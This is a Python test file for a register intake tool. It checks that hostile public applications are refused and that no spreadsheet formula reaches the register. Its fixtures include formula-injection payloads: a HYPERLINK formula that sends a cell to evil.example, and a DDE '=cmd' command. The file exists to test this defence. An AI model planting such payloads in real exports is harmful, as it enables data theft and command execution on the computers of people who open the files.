"""Intake never makes the register invalid and never writes a formula (issue 13, item 5).

The export is written by the public; these applications are what a hostile or careless public
sends. The register is checked with `safeplace validate` before and after, and every cell is
checked for what a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from pipeline.coordinators.intake import FORM_FIELDS
from pipeline.register.text import FORMULA_PREFIXES
from support import FIXTURE_REGISTER, QuietLog, application, run_safeplace

REGISTER = FIXTURE_REGISTER


HOSTILE = [
    application(
        organization_name='=HYPERLINK("http://evil.example/?"&A2,"Click")', address="1 Formula Way"
    ),  # row 2
    application(
        organization_name="Overland Park Books",
        address="11900 Metcalf Ave",
        city="Overland Park",
        state="KS",
        zip="66213",
    ),  # row 3
    application(organization_name="Line\nBreak Cafe", address="100 Main St\r\nSuite 2"),  # row 4
    application(
        organization_name="Quiet Tea", address="5 Oak St", applicant_name="=cmd|' /C calc'!A0"
    ),  # row 5: a formula in a private column
    application(organization_name="Bell Shop", address="7 Elm St", email="x@example.org\x07"),  # row 6
    application(
        organization_name="State Line Deli", address="1 State Line Rd", state="MO", zip="66206"
    ),  # row 7: a Kansas ZIP code
    application(
        organization_name="Plus Phone Pizza", address="8 Pine St", phone="+1 816 555 0188"
    ),  # row 8: a +1 phone is fine (written as (816) ...)
    application(organization_name="-Minus Market", address="9 Birch St"),  # row 9
    application(organization_name="Phở Saigon", address="3700 Main St"),  # row 10
    application(organization_name="At Hours", address="10 Ash St", hours="@Mo-Fr"),  # row 11
]


def export(path: Path, apps: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=FORM_FIELDS)
        writer.writeheader()
        writer.writerows(apps)
    return path


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


@pytest.fixture
def register(tmp_path) -> Path:
    path = tmp_path / "participants.csv"
    shutil.copyfile(REGISTER, path)
    return path


def test_a_hostile_export_leaves_the_register_valid_and_free_of_formulas(tmp_path, register):
    assert run_safeplace("validate", "--data", str(register)).returncode == 0
    before = register.read_bytes()
    apps = export(tmp_path / "applications.csv", HOSTILE)
    result = run_safeplace("intake", str(apps), "--data", str(register))
    assert result.returncode == 1  # some applications were refused, and each is named
    err, out = result.stderr, result.stdout
    assert f"{apps}:2: organization_name: '=HYPERLINK(" in err and "run it as a formula; not added" in err
    assert f"{apps}:5: applicant_name: \"=cmd|' /C calc'!A0\" starts with '='" in err
    assert f"{apps}:6: email: contains a control character: not added" in err
    assert f"{apps}:11: hours: '@Mo-Fr' starts with '@'" in err
    assert f"{apps}:9: organization_name: '-Minus Market' starts with '-'" in err
    assert (
        f"{apps}:3: city: outside the jurisdiction: Overland Park ('Overland Park Books'; state KS): "
        "not added"
    ) in out
    assert (
        f"{apps}:7: city: outside the jurisdiction: " in out and "('State Line Deli'; ZIP 66206 is in " in out
    )
    assert register.read_bytes().startswith(before)
    rows = cells(register)
    added = {r[1]: r for r in rows[len(cells(REGISTER)) :]}
    assert sorted(added) == ["Line Break Cafe", "Phở Saigon", "Plus Phone Pizza"]
    header = rows[0]
    assert added["Line Break Cafe"][header.index("address")] == "100 Main St Suite 2"
    assert added["Plus Phone Pizza"][header.index("contact_phone")] == "(816) 555-0188"
    for row in rows[1:]:
        for column, value in zip(header, row):
            if column not in ("lat", "lon"):  # -94.58 is a number to a spreadsheet, not a formula
                assert not value.startswith(FORMULA_PREFIXES[:4]), value
            assert "\n" not in value and "\x07" not in value
    validated = run_safeplace("validate", "--data", str(register))
    assert validated.returncode == 0, validated.stderr
    assert "6 pending" in validated.stdout


def test_intake_on_a_windows_1252_register_keeps_every_letter(tmp_path, register):
    register.write_bytes(REGISTER.read_text(encoding="utf-8").replace("\n", "\r\n").encode("cp1252"))
    apps = export(
        tmp_path / "applications.csv", [application(organization_name="Phở Saigon", address="3700 Main St")]
    )
    result = run_safeplace("intake", str(apps), "--data", str(register))
    assert result.returncode == 0, result.stderr
    assert "now saved as UTF-8" in result.stdout and "'Phở Saigon'" in result.stdout
    raw = register.read_bytes()
    text = raw.decode("utf-8-sig")
    assert "Phở Saigon" in text and "Restaurant or café" in text  # old rows and new, all letters
    assert text.replace("\r\n", "\n").startswith(REGISTER.read_text(encoding="utf-8"))
    assert run_safeplace("validate", "--data", str(register)).returncode == 0


def test_intake_on_a_windows_1252_register_stays_windows_1252_when_it_can(tmp_path, register):
    register.write_bytes(REGISTER.read_text(encoding="utf-8").encode("cp1252"))
    before = register.read_bytes()
    apps = export(
        tmp_path / "applications.csv", [application(organization_name="Crème Café", address="3700 Main St")]
    )
    result = run_safeplace("intake", str(apps), "--data", str(register))
    assert result.returncode == 0, result.stderr
    raw = register.read_bytes()
    assert raw.startswith(before) and "Crème Café".encode("cp1252") in raw


# --- geocode: coordinates outside the boundary are not written ---------------------------------


class OverlandPark(QuietLog, BaseHTTPRequestHandler):
    """A stand-in Nominatim that places every address in Overland Park, Kansas."""

    def do_GET(self):
        body = json.dumps(
            [
                {
                    "lat": "38.9822",
                    "lon": "-94.6708",
                    "display_name": "Overland Park",
                    "place_id": 1,
                    "importance": 0.5,
                }
            ]
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_geocode_warns_about_and_does_not_write_coordinates_outside_the_boundary(tmp_path, register):
    rows = cells(register)
    header = rows[0]
    pending = next(r for r in rows[1:] if r[header.index("status")] == "pending")
    pending[header.index("lat")] = pending[header.index("lon")] = ""
    with register.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    before = register.read_bytes()
    server = ThreadingHTTPServer(("127.0.0.1", 0), OverlandPark)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        result = run_safeplace(
            "geocode",
            "--data",
            str(register),
            "--endpoint",
            f"http://127.0.0.1:{server.server_address[1]}",
            "--cache",
            str(tmp_path / "cache.csv"),
        )
    finally:
        server.shutdown()
    assert result.returncode == 1
    assert "was found at 38.982200, -94.670800, outside the jurisdiction: not written" in result.stderr
    assert register.read_bytes() == before
    empty = sum(1 for r in rows[1:] if not r[header.index("lat")] and not r[header.index("lon")])
    assert f"0 filled, 0 not found, {empty} outside the boundary" in result.stdout


def test_geocode_outage_is_one_line(tmp_path, register):
    rows = cells(register)
    rows[-1][rows[0].index("lat")] = rows[-1][rows[0].index("lon")] = ""
    with register.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    result = run_safeplace(
        "geocode",
        "--data",
        str(register),
        "--endpoint",
        "http://127.0.0.1:9",
        "--cache",
        str(tmp_path / "cache.csv"),
    )
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "no connection to the geocoding service" in result.stderr
    assert "Traceback" not in result.stderr
